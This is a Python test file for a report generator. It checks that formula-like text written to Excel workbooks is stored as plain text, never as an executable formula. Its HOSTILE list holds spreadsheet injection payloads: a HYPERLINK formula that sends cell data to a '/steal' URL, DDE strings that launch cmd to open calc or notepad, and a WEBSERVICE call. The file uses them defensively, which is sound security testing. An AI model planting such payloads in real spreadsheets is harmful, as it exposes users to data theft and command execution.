"""Formula injection: no text reportgen writes to a spreadsheet can run as a formula (read in the written XML)."""

from __future__ import annotations

import datetime as dt
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from reportgen.cli import cli
from reportgen.input.xlsx import FORMULA_PREFIXES, SheetOut, workbook_bytes
from tests.hostile_corpus import valid_sheets

HOSTILE = [
    '=HYPERLINK("http://127.0.0.1/steal?"&A1,"اضغط هنا")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
    '=WEBSERVICE("http://127.0.0.1/")',
    "=تجمع",
]
_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells(path: Path) -> list[tuple[str, str, str, bool]]:
    """Return every cell of every sheet as (ref, type, text, has a formula), read from the XML itself."""
    from xml.etree import ElementTree

    out = []
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(zf.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(_NS + "t")) for si in root.iter(_NS + "si")]
        for name in names:
            if not re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name):
                continue
            for c in ElementTree.fromstring(zf.read(name)).iter(_NS + "c"):
                kind, v = c.get("t", "n"), c.find(_NS + "v")
                if kind == "s":
                    text = shared[int(v.text)]
                elif kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(_NS + "t"))
                else:
                    text = "" if v is None else v.text or ""
                out.append((c.get("r"), kind, text, c.find(_NS + "f") is not None))
    return out


def assert_no_formula(path: Path, expected: list[str] = ()) -> None:
    found = cells(path)
    assert not [c for c in found if c[3]], "formula cells written"
    risky = [c for c in found if c[2].startswith(FORMULA_PREFIXES)]
    assert all(kind in ("s", "inlineStr") for _, kind, _, _ in risky), risky
    texts = {text for _, _, text, _ in found}
    for value in expected:
        assert value in texts, (value, sorted(texts)[:20])


STAMP = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


def test_workbook_bytes_stores_formula_like_text_as_text(tmp_path):
    path = tmp_path / "out.xlsx"
    path.write_bytes(
        workbook_bytes([SheetOut("sheet", ["=header", "+header", "plain"], [[v, v, 1] for v in HOSTILE])], STAMP)
    )
    assert_no_formula(path, HOSTILE + ["=header", "+header"])


def test_starter_workbook_has_no_formula_cells(tmp_path):
    r = subprocess.run(
        [sys.executable, "-m", "reportgen", "init", str(tmp_path / "p")], capture_output=True, text=True, timeout=120
    )
    assert r.returncode == 0, r.stderr
    assert_no_formula(tmp_path / "p" / "workbook.xlsx")


@pytest.mark.skipif("dossiers" not in cli.commands, reason="no dossiers command")
def test_dossier_register_stores_formula_like_text_as_text(tmp_path):
    sheets = valid_sheets()
    sheets["clusters"][1][1] = HOSTILE[0]  # the cluster's name
    sheets["certifications"][1][1] = HOSTILE[4]  # its brand
    workbook = tmp_path / "wb.xlsx"  # written with text kept as text, as a careful user's would be
    workbook.write_bytes(workbook_bytes([SheetOut(title, rows[0], rows[1:]) for title, rows in sheets.items()], STAMP))
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "reportgen",
            "dossiers",
            str(workbook),
            "-o",
            str(tmp_path / "d"),
            "--jobs",
            "1",
            "--unsigned",
        ],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=tmp_path,
    )
    assert r.returncode == 0, r.stderr
    assert_no_formula(tmp_path / "d" / "register.xlsx", [HOSTILE[0], HOSTILE[4]])
